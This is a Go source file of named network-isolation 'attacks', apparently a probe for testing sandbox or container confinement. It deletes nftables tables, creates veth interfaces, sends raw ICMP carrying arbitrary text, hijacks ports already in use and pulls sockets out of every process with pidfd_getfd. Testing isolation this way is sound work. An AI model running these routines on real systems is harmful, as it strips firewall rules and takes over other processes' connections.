//go:build linux

package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"syscall"

	"golang.org/x/sys/unix"
)

func init() {
	// flush TABLE ADDRESS: removes the rules of the network and hands over a connection to
	// ADDRESS, which a service in here answers if they are gone.
	attacks["flush"] = func(args []string) error {
		name := append([]byte(args[0]), 0)
		control := []byte{unix.AF_UNSPEC, unix.NFNETLINK_V0, 0, unix.NFNL_SUBSYS_NFTABLES}
		table := append([]byte{unix.NFPROTO_INET, unix.NFNETLINK_V0, 0, 0}, attribute(unix.NFTA_TABLE_NAME, name)...)
		messages := netlinkMessage(unix.NFNL_MSG_BATCH_BEGIN, 0, control)
		messages = append(messages, netlinkMessage(unix.NFNL_SUBSYS_NFTABLES<<8|unix.NFT_MSG_DELTABLE, unix.NLM_F_ACK, table)...)
		messages = append(messages, netlinkMessage(unix.NFNL_MSG_BATCH_END, 0, control)...)
		if err := netlink(unix.NETLINK_NETFILTER, messages); err != nil {
			fmt.Fprintln(os.Stderr, "remove the rules:", err) // what counts is where a connection goes
		}
		_, port, err := net.SplitHostPort(args[1])
		if err != nil {
			return err
		}
		l, err := net.Listen("tcp", ":"+port)
		if err != nil {
			return err
		}
		defer l.Close()
		return hand(func() (syscall.Conn, error) {
			c, err := net.Dial("tcp", args[1])
			if err != nil {
				return nil, err
			}
			return c.(*net.TCPConn), nil
		})
	}
	// interface NAME: makes a network interface and hands over a socket of the network it is in.
	attacks["interface"] = func(args []string) error {
		link := attribute(unix.IFLA_IFNAME, append([]byte(args[0]), 0))
		link = append(link, attribute(unix.IFLA_LINKINFO, attribute(unix.IFLA_INFO_KIND, []byte("veth\x00")))...)
		body := append(make([]byte, unix.SizeofIfInfomsg), link...)
		if err := netlink(unix.NETLINK_ROUTE, netlinkMessage(unix.RTM_NEWLINK, unix.NLM_F_CREATE|unix.NLM_F_EXCL|unix.NLM_F_ACK, body)); err != nil {
			return failed("make an interface", err)
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err == nil {
			tell("socket", fd)
		}
		return err
	}
	// icmp ADDRESS TEXT: sends an echo request with TEXT in it.
	attacks["icmp"] = func(args []string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err != nil {
			return failed("raw socket", err)
		}
		packet := append([]byte{8, 0, 0, 0, 0, 0, 0, 1}, args[1]...)
		if len(packet)%2 != 0 {
			packet = append(packet, 0)
		}
		sum := uint32(0)
		for i := 0; i < len(packet); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(packet[i:]))
		}
		sum = sum&0xffff + sum>>16
		binary.BigEndian.PutUint16(packet[2:], ^uint16(sum&0xffff+sum>>16))
		return failed("send", unix.Sendto(fd, packet, 0, &unix.SockaddrInet4{Addr: [4]byte(net.ParseIP(args[0]).To4())}))
	}
	// port PORT: hands over a listening socket at a port that somebody else has.
	attacks["port"] = func(args []string) error {
		var last error
		for _, family := range []int{unix.AF_INET, unix.AF_INET6} {
			fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
			if err != nil {
				last = err
				continue
			}
			for _, option := range []int{unix.SO_REUSEADDR, unix.SO_REUSEPORT} {
				unix.SetsockoptInt(fd, unix.SOL_SOCKET, option, 1)
			}
			var at unix.Sockaddr = &unix.SockaddrInet4{Port: number(args[0]), Addr: [4]byte{127, 0, 0, 1}}
			if family == unix.AF_INET6 {
				at = &unix.SockaddrInet6{Port: number(args[0])}
			}
			if err := unix.Bind(fd, at); err != nil {
				last = failed("bind", err)
				continue
			}
			if err := unix.Listen(fd, 1); err != nil {
				last = failed("listen", err)
				continue
			}
			tell("socket", fd)
		}
		return last
	}
	// listeners: hands over every socket that any process here holds.
	attacks["listeners"] = func([]string) error {
		list, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, e := range list {
			var pid int
			if _, err := fmt.Sscan(e.Name(), &pid); err != nil {
				continue
			}
			fds, err := os.ReadDir("/proc/" + e.Name() + "/fd")
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				continue
			}
			pidfd, err := unix.PidfdOpen(pid, 0)
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				continue
			}
			for _, f := range fds {
				if fd, err := unix.PidfdGetfd(pidfd, number(f.Name()), 0); err == nil {
					tell("socket", fd)
					unix.Close(fd)
				}
			}
			unix.Close(pidfd)
		}
		return nil
	}
}

// hand hands over what open gives.
func hand(open func() (syscall.Conn, error)) error {
	c, err := open()
	if err != nil {
		return err
	}
	raw, err := c.SyscallConn()
	if err != nil {
		return err
	}
	return raw.Control(func(fd uintptr) { tell("socket", int(fd)) })
}

// netlink sends messages and gives the first answer.
func netlink(protocol int, messages []byte) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, protocol)
	if err != nil {
		return failed("netlink socket", err)
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, messages, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	buf := make([]byte, 4096)
	if _, _, err := unix.Recvfrom(fd, buf, unix.MSG_DONTWAIT); err != nil {
		return err
	}
	return errno(unix.Errno(-int32(binary.NativeEndian.Uint32(buf[unix.SizeofNlMsghdr:]))))
}

func netlinkMessage(kind, flags uint16, body []byte) []byte {
	m := binary.NativeEndian.AppendUint32(nil, uint32(unix.SizeofNlMsghdr+len(body)))
	m = binary.NativeEndian.AppendUint16(m, kind)
	m = binary.NativeEndian.AppendUint16(m, unix.NLM_F_REQUEST|flags)
	m = append(m, make([]byte, 8)...)
	return append(m, body...)
}

// attribute is a netlink attribute, filled up to a boundary of four bytes.
func attribute(kind uint16, value []byte) []byte {
	a := binary.NativeEndian.AppendUint16(nil, uint16(4+len(value)))
	a = binary.NativeEndian.AppendUint16(a, kind)
	a = append(a, value...)
	for len(a)%4 != 0 {
		a = append(a, 0)
	}
	return a
}
